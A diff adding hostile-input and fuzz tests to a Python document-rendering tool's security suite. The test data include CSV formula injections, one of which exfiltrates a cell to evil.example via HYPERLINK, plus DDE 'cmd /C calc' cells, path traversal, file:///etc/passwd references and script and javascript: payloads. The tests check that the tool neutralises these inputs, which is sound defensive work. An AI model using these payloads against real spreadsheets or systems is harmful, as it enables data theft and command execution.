@@ -3,22 +3,33 @@
 Every test named `test_hostile_*` (one per parametrised case) is one hostile case; the
 closing note of issue 5 counts them with
 `pytest --collect-only -q tests/test_security.py tests/test_packs.py tests/test_images.py
-tests/test_save_kills.py | grep -c hostile`. What "safe" means is asserted in each:
-no crash (only `UserError` or a refused resource reaches the caller), no leak (a canary
-file outside the allowed folders never appears in any output, and the fetcher records
-the refusal), no file written outside the output or user-template folders.
+tests/test_save_kills.py | grep -c hostile` (the two save-kill tests hold 250 and 40
+kills each). What "safe" means is asserted in each: no crash (only `UserError` or a
+refused resource reaches the caller), no leak (a canary file outside the allowed folders
+never appears in any output, no `open()` of it is observed by an audit hook, and the
+fetcher records the refusal), no file written outside the output or user-template
+folders, no hang beyond the render limits. The `test_fuzz_*` tests feed generated input
+(hypothesis) to the image cleaner, the pack reader and the URL fetcher.
+
+Sections: 1 Jinja sandbox · 2 URL fetcher · 3 images from users · 5 runaway templates in
+the render worker · 7 spreadsheet cells and field values · fuzz. (Packs: test_packs.py;
+image files: test_images.py; hard kills during saves: test_save_kills.py.)
 """
 
 from __future__ import annotations
 
+import contextlib
 import io
 import os
 import secrets
 import sys
 import time
+import zipfile
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from jinja2 import TemplateNotFound, UndefinedError
 from jinja2.exceptions import SecurityError
 
@@ -641,3 +652,247 @@ def test_hostile_runaway_through_the_cli_writes_nothing(tmp_path: Path, monkeypa
     err = capsys.readouterr().err
     assert "dừng" in err and "Traceback" not in err
     assert list(out.iterdir()) == []
+
+
+# --- 7. Spreadsheet cells and field values: text stays text, names stay inside -----------
+
+SHEET_CELLS = [
+    "<script>alert(1)</script>",
+    '<img src="file:///etc/passwd">',
+    "<style>@import url(file:///etc/passwd)</style>",
+    '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "../../../evil",
+    "..\\..\\evil",
+    "/etc/passwd",
+    "C:\\Windows\\evil",
+    "CON",
+    "nul.txt",
+    "COM1",
+    "LPT¹",
+    "\u202egnp.exe",
+    ".hidden",
+    "thôn a",
+    "THÔN A",
+]
+
+
+@pytest.fixture(scope="module")
+def hostile_batch(tmp_path_factory: pytest.TempPathFactory):
+    """One batch over a sheet whose cells are all hostile; rendered in the worker pool."""
+    import csv
+    import dataclasses
+
+    from ansinh.core.batch import plan_batch, run_batch
+    from ansinh.core.campaign import load_campaign
+
+    root = tmp_path_factory.mktemp("hostile-sheet")
+    rows = root / "thon.csv"
+    with rows.open("w", encoding="utf-8-sig", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["STT", "Tên thôn"])
+        writer.writerows([number, cell] for number, cell in enumerate(SHEET_CELLS, start=1))
+    campaign = dataclasses.replace(
+        load_campaign(ROOT / "assets" / "sample" / "campaign.toml"),
+        name='=HYPERLINK("http://evil.example","Chiến dịch")',
+    )
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("ANSINH_USER_DIR", str(tmp_path_factory.mktemp("sheet-user")))
+        plan = plan_batch("banner-bhxh", rows, campaign, segment="toan-dan")
+        out = root / "out"
+        events = list(
+            run_batch(plan, campaign, out, RenderOptions(formats=("pdf",)), combined=False)
+        )
+    failed = {e.row: e.checks for e in events if e.kind == "failed"}
+    return root, rows, out, plan, events[-1].bundle, failed
+
+
+@pytest.mark.parametrize("index", range(len(SHEET_CELLS)))
+def test_hostile_spreadsheet_cell_stays_text_and_its_file_stays_inside(
+    index: int, hostile_batch
+) -> None:
+    root, rows, out, plan, bundle, failed = hostile_batch
+    cell = SHEET_CELLS[index]
+    row = index + 2  # the header is row 1
+    assert not plan.problems, [p.vi for p in plan.problems]
+    if "\u202e" in cell:  # an invisible bidi override: the font cannot draw it
+        assert any(c.code == "glyph" and c.field == "place" for c in failed[row])
+        assert not [e for e in bundle.entries if e.row == row]
+        return
+    assert row not in failed
+    entries = [e for e in bundle.entries if e.row == row]
+    assert len(entries) == 1, [e.row for e in bundle.entries]
+    name = entries[0].file
+    # The file name: one safe component, inside the bundle, no reserved device stem.
+    assert "/" not in name and "\\" not in name and "\u202e" not in name
+    assert not name.startswith((".", "-", "=", "+", "@", " "))
+    assert name.split(".")[0].casefold() not in {"con", "nul", "com1", "lpt¹"}  # Windows' rule
+    path = out / name
+    assert path.is_file() and path.resolve().parent == out.resolve()
+    # The cell's text is printed as text: markup escaped, nothing fetched.
+    text = pdf_text(path.read_bytes())
+    shown = " ".join(cell.replace("\u202e", "").split())
+    assert shown in text or shown.replace(" ", "") in text.replace(" ", ""), (shown, text)
+
+
+def test_hostile_sheet_writes_nothing_outside_and_manifest_csv_is_neutralised(
+    hostile_batch,
+) -> None:
+    import csv
+    import json
+
+    root, rows, out, _plan, bundle, failed = hostile_batch
+    for path in root.rglob("*"):
+        assert path in (rows, out) or out in path.parents, path
+    names = {e.file.casefold() for e in bundle.entries}
+    assert len(names) == len(bundle.entries) == len(SHEET_CELLS) - len(failed)  # unique
+    with (out / "manifest.csv").open(encoding="utf-8-sig", newline="") as handle:
+        cells = [cell for record in csv.reader(handle) for cell in record]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
+    assert manifest["campaign"].startswith("=HYPERLINK")  # JSON keeps the data as it is
+
+
+PARAGRAPH_ATTACKS = {
+    "html-and-script": (
+        "<b>đậm</b><script>alert(1)</script>",
+        "<b>đậm</b><script>alert(1)</script>",
+    ),
+    "raw-img-tag": ('<img src="/etc/passwd">', '<img src="/etc/passwd">'),
+    "markdown-image-outside": ("![x](file:///etc/passwd) chữ", "chữ"),
+    "raw-attachment-link": (
+        "<a href='file:///etc/passwd' rel='attachment'>x</a>",
+        "<a href='",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(PARAGRAPH_ATTACKS))
+def test_hostile_markup_in_a_paragraph_field_is_escaped(name: str, tmp_path: Path) -> None:
+    value, shown = PARAGRAPH_ATTACKS[name]
+    with OpenLog() as opened:
+        result = render_piece(
+            Piece("poster-bhxh", "toan-dan", "A4", {"benefits": value}),
+            Campaign(name="Thử", base_dir=tmp_path),
+            RenderOptions(formats=("pdf",), fast_pdf=True),
+        )
+    pdf = result.artifact("pdf").data
+    assert b"root:x:0:0" not in pdf and b"EmbeddedFile" not in pdf
+    assert "/etc/passwd" not in {os.path.realpath(p) for p in opened}
+    assert shown in pdf_text(pdf)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="fields.paragraph_html keeps Markdown links of any scheme; a javascript: link "
+    "becomes a PDF link annotation (no file is read; see the issue 5 report)",
+)
+def test_hostile_javascript_link_in_a_paragraph_is_not_a_pdf_link(tmp_path: Path) -> None:
+    result = render_piece(
+        Piece("poster-bhxh", "toan-dan", "A4", {"benefits": "[bấm](javascript:alert(1))"}),
+        Campaign(name="Thử", base_dir=tmp_path),
+        RenderOptions(formats=("pdf",), fast_pdf=True),
+    )
+    assert b"javascript" not in result.artifact("pdf").data
+
+
+# --- Fuzz: any input ends in a result or a clear error ----------------------------------
+
+
+FUZZ = settings(
+    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+
+
+def _valid_png() -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.effect_noise((32, 32), 40).save(out, "PNG")
+    return out.getvalue()
+
+
+VALID_PNG = _valid_png()
+
+
+@FUZZ
+@given(
+    data=st.binary(max_size=4096)
+    | st.builds(
+        lambda cut, flips: bytes(
+            b ^ (0xFF if i in flips else 0) for i, b in enumerate(VALID_PNG[:cut])
+        ),
+        st.integers(0, len(VALID_PNG)),
+        st.sets(st.integers(0, len(VALID_PNG)), max_size=8),
+    )
+)
+def test_fuzz_image_bytes_end_in_a_clean_image_or_a_user_error(data: bytes) -> None:
+    from ansinh.core import images
+
+    try:
+        cleaned, suffix = images.clean_bytes(data, "anh.png")
+    except UserError as exc:
+        assert exc.vi and exc.en
+        return
+    assert suffix in (".png", ".jpg", ".svg") and cleaned
+
+
+def _zip_with(names: list[str]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for index, name in enumerate(names):
+            with contextlib.suppress(Exception):  # names zipfile itself cannot write
+                archive.writestr(name or f"x{index}", b"h1{}")
+    return buffer.getvalue()
+
+
+@FUZZ
+@given(
+    data=st.one_of(
+        st.binary(max_size=2048),
+        st.lists(st.text(min_size=0, max_size=40), max_size=6).map(_zip_with),
+        st.lists(
+            st.from_regex(
+                r"(\.\.|[A-Za-z]:|/|\\|con|ảnh|a\.css|template\.toml){1,6}", fullmatch=True
+            ),
+            max_size=6,
+        ).map(_zip_with),
+    )
+)
+def test_fuzz_packs_end_in_members_or_a_user_error(data: bytes, tmp_path: Path) -> None:
+    from ansinh.core.packs import read_pack
+
+    pack = tmp_path / "fuzz.zip"
+    pack.write_bytes(data)
+    try:
+        members, skipped = read_pack(pack)
+    except UserError as exc:
+        assert exc.vi and exc.en
+        return
+    for name in [*members, *skipped]:
+        parts = name.split("/")
+        assert ".." not in parts and not name.startswith("/") and ":" not in name
+
+
+@FUZZ
+@given(
+    url=st.one_of(
+        st.text(max_size=200),
+        st.from_regex(r"(file|data|http|ftp|FILE|jar|)(:|://)[^\n]{0,80}", fullmatch=True),
+    )
+)
+def test_fuzz_urls_are_served_from_the_roots_or_refused(url: str, tmp_path: Path) -> None:
+    from ansinh.core.render.fetcher import SafeFetcher
+
+    fetcher = SafeFetcher([tmp_path])
+    try:
+        response = fetcher.fetch(url)
+    except ValueError:
+        assert fetcher.refused
+        return
+    assert url.lower().startswith("data:")  # nothing else exists inside the empty root
+    assert response.read() is not None
